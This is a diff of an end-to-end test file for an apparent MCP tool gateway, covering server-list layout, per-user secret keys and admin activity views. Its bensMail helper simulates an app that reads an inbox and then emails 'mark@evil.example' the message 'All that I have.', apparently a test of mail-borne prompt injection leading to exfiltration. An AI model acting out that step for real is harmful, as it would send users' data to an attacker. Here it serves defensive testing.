@@ -81,13 +81,17 @@ const mailTools = [
   { name: 'send_email', parameters: ['to', 'body'] },
 ];
 
-/** What ben's app is answered when it writes to where a mail said. */
-async function bensMail({ url, tokens }: Team): Promise<string> {
+/** Calls tools as an app of ben's. */
+async function bensApp({ url, tokens }: Team): Promise<(name: string, args: object) => Promise<unknown>> {
   const app = new HttpClient(`${url}/mcp`, false, { authorization: `Bearer ${tokens.ben}` });
   const clientInfo = { name: 'cursor', version: '1' };
   await app.exchange('initialize', { protocolVersion: '2025-11-25', capabilities: {}, clientInfo });
-  const call = (name: string, args: object): Promise<unknown> =>
-    app.exchange('tools/call', { name, arguments: { ...args } });
+  return (name, args) => app.exchange('tools/call', { name, arguments: { ...args } });
+}
+
+/** What ben's app is answered when it writes to where a mail said. */
+async function bensMail(team: Team): Promise<string> {
+  const call = await bensApp(team);
   await call('mail_read_inbox', {});
   return JSON.stringify(await call('mail_send_email', { to: 'mark@evil.example', body: 'All that I have.' }));
 }
@@ -165,7 +169,11 @@ test('on a narrow page the servers of a team stay within their card, with room f
   await page.setViewportSize({ width: 600, height: 800 });
   await signIn(page, team, 'ana');
   // One at an address has a column for one's own sign-in, and one that does not start a button.
-  const servers = { gone: { command: 'no-such-program' }, far: { url: 'http://127.0.0.1:9/mcp' } };
+  const servers = {
+    gone: { command: 'no-such-program' },
+    far: { url: 'http://127.0.0.1:9/mcp' },
+    keyed: { url: 'http://127.0.0.1:9/mcp', headers: { 'X-Key': '${user:KEYED_KEY}' } },
+  };
   await writeFile(team.config, JSON.stringify({ servers }));
   await page.goto(`${team.url}/#/servers`);
   const [card, table] = [page.locator('section.card'), page.getByRole('table', { name: 'Servers' })];
@@ -176,8 +184,36 @@ test('on a narrow page the servers of a team stay within their card, with room f
     const box = await of.boundingBox();
     return (box?.x ?? 0) + (box?.width ?? 0);
   };
-  expect(await right(table)).toBeLessThanOrEqual(await right(card));
-  expect((await why.boundingBox())?.width).toBeGreaterThan(130);
+  // A value of one's own is no sign-in: where it is kept is said instead.
+  await expect(table.getByText('tooltray team-secret set KEYED_KEY --user ana')).toBeVisible();
+  await expect(table.getByRole('button', { name: 'Sign in to keyed' })).toHaveCount(0);
+  for (const width of [600, 760, 900, 1100]) {
+    await page.setViewportSize({ width, height: 800 });
+    // Of several replicas the states are told in more words.
+    await table.locator('.state > span').evaluateAll((words) => {
+      for (const one of words) one.textContent = 'Needs sign-in on 3 of 3 replicas';
+    });
+    expect(await right(table)).toBeLessThanOrEqual(await right(card));
+    expect((await why.boundingBox())?.width).toBeGreaterThan(130);
+    expect((await table.getByRole('link', { name: 'keyed' }).boundingBox())?.height).toBeLessThan(30);
+  }
+});
+
+test('whose each call and step is, an admin sees at every width', async ({ page, team }) => {
+  await signIn(page, team, 'ana');
+  const call = await bensApp(team);
+  await call('mail_read_inbox', {});
+  for (const width of [600, 900, 1280]) {
+    await page.setViewportSize({ width, height: 800 });
+    await page.goto(`${team.url}/#/activity`);
+    const row = page.getByRole('table', { name: 'Calls' }).getByRole('row').filter({ hasText: 'read_inbox' });
+    await expect(row.getByText('ben')).toBeInViewport();
+    await page.goto(`${team.url}/#/activity/sessions/all`);
+    const step = page.getByRole('table', { name: 'Steps' }).getByRole('row').filter({ hasText: 'read_inbox' });
+    await expect(step.getByText('ben')).toBeInViewport();
+  }
+  await page.getByLabel('Person').selectOption('ben');
+  await expect(page.getByRole('columnheader', { name: 'App' })).toBeVisible();
 });
 
 test('a call that waits is let go by whoever made it; an admin sees whose it is, and none of its words', async ({
